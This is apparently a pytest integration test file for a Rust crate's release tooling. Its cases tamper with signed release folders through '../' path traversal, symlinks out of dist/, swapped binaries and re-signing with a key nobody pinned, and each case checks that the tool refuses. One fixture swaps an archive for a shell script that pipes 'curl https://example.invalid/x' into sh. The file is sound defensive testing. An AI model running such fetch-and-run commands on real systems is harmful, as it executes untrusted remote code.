"""Bad input of the dist/, manifest, prebuilt and signing families: refused with one message, nothing outside dist/
touched, dist/ as it was.

Each case runs the real `invoke` in a sandbox (tests/bad_input.py) and is held
to the whole contract. Most start from one signed release folder made once by
`invoke package --prebuilt` (gpg and minisign, throwaway keys) and copied into
each case's sandbox; a case then breaks it the way a careless user or a
hostile CI artifact would, and runs the command that must refuse it.
"""

from __future__ import annotations

import fcntl
import hashlib
import io
import json
import os
import shutil
import subprocess
import tarfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.artifact_fixtures import release_dist
from tests.bad_input import Sandbox, assert_refused, digest_tree
from tests.conftest import require_tool
from tests.integration.signing_keys import GpgHome, MinisignKeys, make_gpg_home, make_minisign_keys, signing_env
from tooling.errors import ConfigError, FenceError, ManifestError, VerificationError
from tooling.plan import LOCK_NAME

pytestmark = pytest.mark.integration

TRIPLES = ("x86_64-unknown-linux-gnu", "aarch64-unknown-linux-gnu", "x86_64-pc-windows-msvc")
X86, ARM = TRIPLES[0], TRIPLES[1]
TOP = f"crcsum-0.1.0-{X86}"
LINUX_ARCHIVE = f"{TOP}.tar.gz"
FENCE, MANIFEST, VERIFY, CONFIG = (
    FenceError.exit_code,
    ManifestError.exit_code,
    VerificationError.exit_code,
    ConfigError.exit_code,
)
# The sandbox is no git repository: the release time comes from here.
EPOCH = {"SOURCE_DATE_EPOCH": "1700000000"}
PACKAGE = ("invoke", "package", "--skip-build", "--allow-partial")
ARCHIVE = ("invoke", "archive", "--skip-build", "--allow-partial")
VERIFY_ALL = ("invoke", "verify", "--allow-partial")


# --- keys and the release every case starts from ----------------------------------------------


@dataclass(frozen=True)
class Keys:
    gpg: GpgHome
    minisign: MinisignKeys
    stranger: str  # another key in the same keyring, which nothing pins

    @property
    def env(self) -> dict[str, str]:
        return {**signing_env(self.gpg, self.minisign), **EPOCH}


def gpg(home: GpgHome, *args: str) -> str:
    return subprocess.run(
        ["gpg", "--batch", "--no-tty", "--pinentry-mode", "loopback", "--passphrase", "", *args],
        env={**os.environ, "GNUPGHOME": str(home.home)},
        capture_output=True,
        text=True,
        check=True,
    ).stdout


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Keys]:
    for tool in ("gpg", "gpgconf", "minisign", "cargo"):
        require_tool(tool)
    folder = tmp_path_factory.mktemp("keys")
    for home in make_gpg_home():
        gpg(home, "--quick-gen-key", "Stranger <stranger@example.invalid>", "ed25519", "sign", "1d")
        listing = gpg(home, "--with-colons", "--list-secret-keys", "stranger@example.invalid")
        stranger = next(line.split(":")[9] for line in listing.splitlines() if line.startswith("fpr:"))
        yield Keys(home, make_minisign_keys(folder), stranger)


def ci_folder(base: Path, triples: tuple[str, ...] = TRIPLES) -> Path:
    """What the release job downloads from the build jobs: dist/<triple>/ folders, no marker."""
    return release_dist(base / "ci", triples, marked=False)


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory, keys: Keys) -> Path:
    """A signed release folder of three targets, made by `invoke package --prebuilt` in a sandbox."""
    base = tmp_path_factory.mktemp("template")
    sandbox = Sandbox.make(base)
    result = sandbox.run("invoke", "package", "--prebuilt", str(ci_folder(base)), "--allow-partial", env=keys.env)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    return sandbox.dist


def packaged(base: Path, template: Path) -> Sandbox:
    """A sandbox whose dist/ is a copy of the signed template release."""
    sandbox = Sandbox.make(base)
    shutil.copytree(template, sandbox.dist, symlinks=True)
    return sandbox


# --- what the cases do to a release ------------------------------------------------------------


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def edit_json(path: Path, change: Callable[[dict[str, object]], None]) -> None:
    data = json.loads(path.read_text())
    change(data)
    path.write_text(json.dumps(data, indent=2))


def entries(data: dict[str, object]) -> list[dict[str, object]]:
    found = data["artifacts"]
    assert isinstance(found, list)
    return found


def add_entry(**fields: object) -> Callable[[Sandbox], None]:
    """A top-manifest entry, as an edited (or hostile) manifest.json would hold it."""

    def setup(sandbox: Sandbox) -> None:
        entry = {"kind": "archive", "target": X86, "size": 1, "sha256": "0" * 64, "step": "archive", **fields}
        edit_json(sandbox.dist / "manifest.json", lambda data: entries(data).append(entry))

    return setup


def rerecord(sandbox: Sandbox, *paths: str) -> None:
    """Make manifest.json agree with the files at `paths` again (size and hash), as an attacker would."""
    facts = {p: (sandbox.dist / p).read_bytes() for p in paths}

    def change(data: dict[str, object]) -> None:
        for entry in entries(data):
            if entry["path"] in facts:
                entry["size"] = len(facts[str(entry["path"])])
                entry["sha256"] = sha(facts[str(entry["path"])])

    edit_json(sandbox.dist / "manifest.json", change)


def resum(sandbox: Sandbox, archive: str) -> None:
    """Rewrite the archive's .sha256, SHA256SUMS and their manifest entries for its new bytes."""
    digest = sha((sandbox.dist / archive).read_bytes())
    (sandbox.dist / f"{archive}.sha256").write_text(f"{digest}  {archive}\n")
    sums = sandbox.dist / "SHA256SUMS"
    lines = [line for line in sums.read_text().splitlines() if not line.endswith(f"  {archive}")]
    sums.write_text("\n".join(sorted([*lines, f"{digest}  {archive}"], key=lambda line: line[66:])) + "\n")
    rerecord(sandbox, archive, f"{archive}.sha256", "SHA256SUMS")


def drop_signatures(sandbox: Sandbox, *signed: str) -> None:
    """Delete the signatures of `signed` files and every trace of them in manifest.json."""
    doomed = {f"{name}{suffix}" for name in signed for suffix in (".asc", ".minisig")}
    for name in doomed:
        (sandbox.dist / name).unlink()

    def change(data: dict[str, object]) -> None:
        kept = [e for e in entries(data) if e["path"] not in doomed]
        for entry in kept:
            if entry["path"] in signed:
                entry["signatures"] = []
        data["artifacts"] = kept

    edit_json(sandbox.dist / "manifest.json", change)


def repack(add: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()) -> Callable[[Sandbox], None]:
    """Rebuild the Linux archive with files added or left out, and rewrite its sums to match."""

    def setup(sandbox: Sandbox) -> None:
        path = sandbox.dist / LINUX_ARCHIVE
        with tarfile.open(path) as old:
            kept = [(m, old.extractfile(m).read() if m.isfile() else b"") for m in old if m.name not in drop]  # type: ignore[union-attr]
        with tarfile.open(path, "w:gz") as new:
            for member, data in kept:
                new.addfile(member, io.BytesIO(data) if member.isfile() else None)
            for name, data in (add or {}).items():
                info = tarfile.TarInfo(name)
                info.size, info.mode = len(data), 0o755
                new.addfile(info, io.BytesIO(data))
        resum(sandbox, LINUX_ARCHIVE)

    return setup


def replace_with_script(sandbox: Sandbox) -> None:
    """An archive swapped for a shell script: its sums rewritten, the signatures that would betray it deleted."""
    (sandbox.dist / LINUX_ARCHIVE).write_text("#!/bin/sh\ncurl https://example.invalid/x | sh\n")
    resum(sandbox, LINUX_ARCHIVE)
    drop_signatures(sandbox, LINUX_ARCHIVE, "SHA256SUMS")


def resign_with(keys: Keys, fingerprint: str) -> Callable[[Sandbox], None]:
    """Every .asc made again by `fingerprint`'s key (all in the same keyring), recorded in manifest.json."""

    def setup(sandbox: Sandbox) -> None:
        signatures = sorted(p.name for p in sandbox.dist.glob("*.asc"))
        for name in signatures:
            signed = sandbox.dist / name.removesuffix(".asc")
            output = str(sandbox.dist / name)
            gpg(keys.gpg, "--yes", "--local-user", fingerprint, "--armor", "--detach-sign", "-o", output, str(signed))
        rerecord(sandbox, *signatures)

    return setup


def replace_file(path: str, data: bytes | Callable[[Sandbox], bytes]) -> Callable[[Sandbox], None]:
    def setup(sandbox: Sandbox) -> None:
        (sandbox.dist / path).write_bytes(data(sandbox) if callable(data) else data)

    return setup


def edit_partial(triple: str, change: dict[str, object]) -> Callable[[Path], None]:
    """Edit every entry of a build job's manifest in a prebuilt folder."""

    def setup(ci: Path) -> None:
        def apply(data: dict[str, object]) -> None:
            for entry in entries(data):
                entry.update(change)

        edit_json(ci / triple / "manifest.json", apply)

    return setup


# --- the cases -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One bad input: the starting folder, how to break it, the command, and what the refusal must say."""

    argv: tuple[str, ...]
    code: int
    names: tuple[str, ...]
    fix: str
    table: str = ""  # appended to [tool.release]
    start: str = "release"  # release: the signed template in dist/; empty: no dist/; prebuilt: a CI folder beside
    setup: Callable[[Sandbox], None] | None = None
    prebuilt: Callable[[Path], None] | None = None  # edits the CI folder (start == "prebuilt")
    env: dict[str, str] = field(default_factory=dict)


def make_folder(name: str, *files: str) -> Callable[[Sandbox], None]:
    """A folder of the user's beside the crate, holding `files` (a name ending in / is a folder)."""

    def setup(sandbox: Sandbox) -> None:
        folder = sandbox.root / name
        folder.mkdir(parents=True, exist_ok=True)
        for file in files:
            if file.endswith("/"):
                (folder / file).mkdir(parents=True)
            else:
                (folder / file).write_text("the user's own\n")

    return setup


def link_target_folder_out(sandbox: Sandbox) -> None:
    """dist/<triple>/ moved beside the project (into the guard folder) and linked back."""
    shutil.move(sandbox.dist / X86, sandbox.guard / "moved")
    (sandbox.dist / X86).symlink_to(sandbox.guard / "moved")


def claim_other_target(sandbox: Sandbox) -> None:
    """The x86-64 build job's manifest says its binary is the aarch64 one."""

    def change(data: dict[str, object]) -> None:
        for entry in entries(data):
            entry.update(path=f"{ARM}/crcsum", target=ARM)

    edit_json(sandbox.dist / X86 / "manifest.json", change)


def plan_binary_outside(sandbox: Sandbox) -> None:
    def change(data: dict[str, object]) -> None:
        targets = data["targets"]
        assert isinstance(targets, list)
        targets[0]["binaries"] = ["../../guard/PRECIOUS.txt"]

    edit_json(sandbox.dist / "plan.json", change)


def truncate_binary(sandbox: Sandbox) -> None:
    binary = sandbox.dist / X86 / "crcsum"
    binary.write_bytes(binary.read_bytes()[:4096])


def tamper_prebuilt_binary(ci: Path) -> None:
    (ci / ARM / "crcsum").write_bytes(b"\x7fELF tampered")


def link_prebuilt_binary(ci: Path) -> None:
    shutil.copy(ci / X86 / "crcsum", ci / "elsewhere")
    (ci / X86 / "crcsum").unlink()
    (ci / X86 / "crcsum").symlink_to(ci / "elsewhere")


def x86_binary_as_aarch64(ci: Path) -> None:
    """The aarch64 build job's folder holding an x86-64 binary, its manifest rewritten to match."""
    shutil.copy(ci / X86 / "crcsum", ci / ARM / "crcsum")
    data = (ci / ARM / "crcsum").read_bytes()
    edit_partial(ARM, {"sha256": sha(data), "size": len(data)})(ci)


def fill_dist(sandbox: Sandbox) -> None:
    sandbox.dist.mkdir()
    (sandbox.dist / "mine.txt").write_text("not release output")


def drop_sums_minisig(sandbox: Sandbox) -> None:
    (sandbox.dist / "SHA256SUMS.minisig").unlink()


CASES: dict[str, Case] = {
    # --- where dist/ may be ---
    'dist-dir = "" then clean': Case(
        ("invoke", "clean"),
        FENCE,
        ("refusing to use", "it is the project root"),
        "tool.release.dist-dir",
        table='dist-dir = ""\n',
        start="empty",
        env={"RELEASE_DIST_DIR": ""},
    ),
    'dist-dir = "." then package': Case(
        PACKAGE,
        FENCE,
        ("it is the project root",),
        "tool.release.dist-dir",
        table='dist-dir = "."\n',
        start="empty",
        env={"RELEASE_DIST_DIR": ""},
    ),
    "clean --dist pointing at the crate": Case(
        ("invoke", "clean", "--dist", "sample"), FENCE, ("it is the crate's folder",), "--dist", start="empty"
    ),
    "clean --dist pointing above the project": Case(
        ("invoke", "clean", "--dist", ".."), FENCE, ("it holds the project root",), "--dist", start="empty"
    ),
    "clean of a folder the tool did not make": Case(
        ("invoke", "clean", "--dist", "notes"),
        FENCE,
        ("refusing to delete", "no .release-dist marker"),
        "delete it yourself",
        start="empty",
        setup=make_folder("notes", "todo.txt"),
    ),
    "clean of a folder holding a repository": Case(
        ("invoke", "clean", "--dist", "checkout"),
        FENCE,
        ("it holds .git",),
        "a folder of its own",
        start="empty",
        setup=make_folder("checkout", ".git/"),
    ),
    "package into a folder someone else filled": Case(
        ("invoke", "package", "--allow-partial", "--unsigned", "--prebuilt", "CI"),
        FENCE,
        ("refusing to write into", "mine.txt"),
        "new or empty folder",
        start="prebuilt",
        setup=fill_dist,
    ),
    "a target folder that links out of dist/": Case(
        PACKAGE,
        FENCE,
        # The first file read through the link is named: the build job's manifest, checked before any binary runs.
        (f"{X86}/manifest.json leads outside dist/ through a symbolic link",),
        "remove the link",
        setup=link_target_folder_out,
    ),
    # --- manifests ---
    "manifest path ../PRECIOUS.txt then archive": Case(
        ARCHIVE,
        FENCE,
        ("'../../guard/PRECIOUS.txt'", "climbs out with '..'"),
        "invoke clean",
        setup=add_entry(path="../../guard/PRECIOUS.txt"),
    ),
    "manifest path that is absolute": Case(
        ARCHIVE, FENCE, ("is absolute",), "invoke clean", setup=add_entry(path="/tmp/PRECIOUS.txt")
    ),
    "manifest signature path that climbs out": Case(
        VERIFY_ALL,
        FENCE,
        ("the path '../x.asc' climbs out",),
        "invoke clean",
        setup=add_entry(path="stale.tar.gz", signatures=["../x.asc"]),
    ),
    "manifest target that is no triple": Case(
        VERIFY_ALL,
        MANIFEST,
        ("target '../..' is not a row of the target table",),
        "known targets",
        setup=add_entry(path="stale.tar.gz", target="../.."),
    ),
    "manifest that is not UTF-8": Case(
        VERIFY_ALL,
        MANIFEST,
        ("manifest.json is not UTF-8",),
        "invoke clean",
        setup=replace_file("manifest.json", b"\xff\xfe{"),
    ),
    "manifest that is not a manifest": Case(
        VERIFY_ALL,
        MANIFEST,
        ("is not a valid manifest", "'artifacts' must be a list"),
        "invoke clean",
        setup=replace_file("manifest.json", b'{"name": "crcsum", "version": "0.1.0", "artifacts": 1}'),
    ),
    "build job manifest listing another target's file": Case(
        PACKAGE,
        MANIFEST,
        (f"{X86}/manifest.json is not a build job's manifest", f"does not match its folder {X86}/"),
        "nox -s build-",
        setup=claim_other_target,
    ),
    "plan.json naming a binary outside its folder": Case(
        VERIFY_ALL,
        MANIFEST,
        ("is not a valid release plan", "is not x86_64-unknown-linux-gnu/<file name>"),
        "plan the release again",
        setup=plan_binary_outside,
    ),
    # --- prebuilt folders from CI build jobs ---
    "prebuilt manifest with target ../..": Case(
        ("invoke", "package", "--allow-partial", "--unsigned", "--prebuilt", f"CI/{X86}"),
        MANIFEST,
        ("target '../..' is not a row of the target table",),
        "known targets",
        start="prebuilt",
        prebuilt=edit_partial(X86, {"target": "../.."}),
    ),
    "prebuilt manifest with a path out of dist/": Case(
        ("invoke", "package", "--allow-partial", "--unsigned", "--prebuilt", f"CI/{X86}"),
        FENCE,
        ("'../../../guard/PRECIOUS.txt' climbs out",),
        "invoke clean",
        start="prebuilt",
        prebuilt=edit_partial(X86, {"path": "../../../guard/PRECIOUS.txt"}),
    ),
    "prebuilt binary that differs from its manifest": Case(
        ("invoke", "package", "--allow-partial", "--unsigned", "--prebuilt", "CI"),
        MANIFEST,
        ("crcsum differs from its manifest entry",),
        "download the build job's artifact again",
        start="prebuilt",
        prebuilt=tamper_prebuilt_binary,
    ),
    "prebuilt binary that is a link": Case(
        ("invoke", "package", "--allow-partial", "--unsigned", "--prebuilt", "CI"),
        MANIFEST,
        ("crcsum is not a regular file",),
        "download the build job's artifact again",
        start="prebuilt",
        prebuilt=link_prebuilt_binary,
    ),
    "prebuilt x86-64 binary in the aarch64 folder": Case(
        ("invoke", "package", "--allow-partial", "--unsigned", "--prebuilt", f"CI/{ARM}"),
        VERIFY,
        ("architecture: expected aarch64, found x86_64",),
        f"nox -s build-{ARM}",
        start="prebuilt",
        prebuilt=x86_binary_as_aarch64,
    ),
    # --- check before you sign ---
    "truncated binary then package": Case(
        PACKAGE,
        VERIFY,
        (f"{X86}/crcsum: differs from its build job's manifest", "nothing was archived, summed or signed"),
        "invoke build",
        setup=truncate_binary,
    ),
    "x86-64 binary in the aarch64 folder then package": Case(
        PACKAGE,
        VERIFY,
        (f"{ARM}/crcsum: architecture: expected aarch64, found x86_64",),
        "--prebuilt",
        setup=replace_file(f"{ARM}/crcsum", lambda s: (s.dist / X86 / "crcsum").read_bytes()),
    ),
    # --- verify trusts only what the config pins ---
    "archive replaced by a script, sums rewritten, signatures deleted": Case(
        VERIFY_ALL,
        VERIFY,
        ("SHA256SUMS.asc: missing", f"{LINUX_ARCHIVE} is not a readable tar.gz archive"),
        "find out who changed these files",
        setup=replace_with_script,
    ),
    "extra member in an archive": Case(
        ("invoke", "verify", "--allow-partial", "--no-signatures"),
        VERIFY,
        (f"holds {TOP}/install.sh, which manifest.json does not list",),
        "find out who changed these files",
        setup=repack(add={f"{TOP}/install.sh": b"#!/bin/sh\n"}),
    ),
    "archive that lacks its binary": Case(
        ("invoke", "verify", "--allow-partial", "--no-signatures"),
        VERIFY,
        (f"lacks the binary {TOP}/crcsum",),
        "find out who changed these files",
        setup=repack(drop=(f"{TOP}/crcsum",)),
    ),
    "missing signature": Case(
        VERIFY_ALL,
        VERIFY,
        ("SHA256SUMS.minisig: missing: SHA256SUMS must carry a minisign signature",),
        "find out who changed these files",
        setup=drop_sums_minisig,
    ),
    "no pinned gpg fingerprint": Case(
        VERIFY_ALL,
        CONFIG,
        ("no GPG fingerprint is pinned",),
        "--no-signatures",
        env={"RELEASE_GPG_KEY": "release@example.invalid"},
    ),
    "a pinned fingerprint that is not one": Case(
        VERIFY_ALL,
        CONFIG,
        ("tool.release.sign.gpg-fingerprints: 'ABCD'",),
        "gpg --fingerprint",
        table='[tool.release.sign]\ngpg-fingerprints = ["ABCD"]\n',
    ),
}


def make_case(base: Path, case: Case, template: Path) -> Sandbox:
    table = '[tool.release]\ncrate = "sample/Cargo.toml"\n' + case.table
    sandbox = Sandbox.make(base, release_table=table)
    if case.start == "release":
        shutil.copytree(template, sandbox.dist, symlinks=True)
    if case.start == "prebuilt":
        ci = ci_folder(sandbox.root)
        shutil.move(ci, sandbox.root / "CI")
        if case.prebuilt:
            case.prebuilt(sandbox.root / "CI")
    if case.setup:
        case.setup(sandbox)
    return sandbox


@pytest.mark.parametrize("name", list(CASES))
def test_bad_input_is_refused(name: str, tmp_path: Path, template: Path, keys: Keys) -> None:
    case = CASES[name]
    sandbox = make_case(tmp_path, case, template)
    assert_refused(sandbox, case.argv, code=case.code, names=case.names, fix=case.fix, env={**keys.env, **case.env})


def test_a_release_resigned_by_another_key_in_the_keyring_fails_naming_it(
    tmp_path: Path, template: Path, keys: Keys
) -> None:
    sandbox = packaged(tmp_path, template)
    resign_with(keys, keys.stranger)(sandbox)
    result = assert_refused(
        sandbox,
        VERIFY_ALL,
        code=VERIFY,
        names=(f"SHA256SUMS.asc: signed by key {keys.stranger}, which is not pinned", keys.gpg.fingerprint),
        fix="find out who changed these files",
        env=keys.env,
    )
    assert f"{LINUX_ARCHIVE}.asc: signed by key {keys.stranger}" in result.stdout + result.stderr
    # The same signatures pass once the configuration pins that key instead: trust is the config's choice.
    (sandbox.root / "pyproject.toml").write_text(
        f'[tool.release]\ncrate = "sample/Cargo.toml"\n[tool.release.sign]\ngpg-fingerprints = ["{keys.stranger}"]\n'
    )
    trusted = sandbox.run(*VERIFY_ALL, env=keys.env)
    assert trusted.returncode == 0, trusted.stderr[-3000:]


def test_the_untouched_release_verifies(tmp_path: Path, template: Path, keys: Keys) -> None:
    """The baseline every case breaks: the template verifies with its pinned keys, and a re-run converges."""
    sandbox = packaged(tmp_path, template)
    result = sandbox.run(*VERIFY_ALL, env=keys.env)
    assert result.returncode == 0, result.stderr[-3000:]
    assert "match plan.json, manifest.json, checksums and signatures" in result.stdout + result.stderr


@pytest.mark.parametrize(
    "argv",
    [PACKAGE, ("invoke", "clean"), ("invoke", "merge-manifests")],
    ids=["package", "clean", "merge-manifests"],
)
def test_a_second_run_on_the_same_dist_fails_at_once(
    argv: tuple[str, ...], tmp_path: Path, template: Path, keys: Keys
) -> None:
    sandbox = packaged(tmp_path, template)
    before = digest_tree(sandbox.dist)
    holder = os.open(sandbox.dist / LOCK_NAME, os.O_RDWR)
    try:
        fcntl.flock(holder, fcntl.LOCK_EX | fcntl.LOCK_NB)  # this test is "the other run"
        os.pwrite(holder, b"31337\n", 0)
        snapshot_with_pid = digest_tree(sandbox.dist)
        assert_refused(
            sandbox,
            argv,
            code=FENCE,
            names=("another run (pid 31337) is using", str(sandbox.dist)),
            fix="kill 31337",
            env=keys.env,
        )
        assert digest_tree(sandbox.dist) == snapshot_with_pid
    finally:
        os.ftruncate(holder, 0)
        os.close(holder)
    assert digest_tree(sandbox.dist) == before


def test_a_refused_prebuilt_import_leaves_no_dist_behind(tmp_path: Path, keys: Keys) -> None:
    """A run that made dist/ and was refused before it made anything removes the folder again."""
    sandbox = Sandbox.make(tmp_path)
    ci = ci_folder(tmp_path)
    edit_partial(X86, {"target": "../.."})(ci)
    result = sandbox.run("invoke", "package", "--allow-partial", "--unsigned", "--prebuilt", str(ci), env=keys.env)
    assert result.returncode == MANIFEST, result.stderr[-3000:]
    assert not sandbox.dist.exists()
